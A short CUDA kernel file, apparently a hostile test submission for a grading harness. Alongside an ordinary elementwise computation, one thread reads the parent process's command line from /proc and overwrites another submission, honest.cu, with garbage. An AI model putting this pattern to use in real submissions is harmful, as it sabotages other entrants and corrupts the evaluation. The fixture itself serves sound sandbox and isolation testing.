// Reads its parent's command line from /proc to find the submissions, then overwrites them.
extern "C" int getppid();
extern "C" int open(const char*, int, ...);
extern "C" long read(int, void*, unsigned long);
__global__ void fma3(const float* a, const float* b, float* c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i == 0) {
        char path[64], args[4096] = "";
        snprintf(path, sizeof path, "/proc/%d/cmdline", getppid());
        int fd = open(path, 0);
        if (fd >= 0 && read(fd, args, sizeof args - 1) > 0) printf("parent: %s\n", args);
        if (FILE* f = fopen("@SUBSDIR@/honest.cu", "w")) fputs("garbage", f);
    }
    if (i < n) c[i] = a[i] * b[i] + a[i];
}
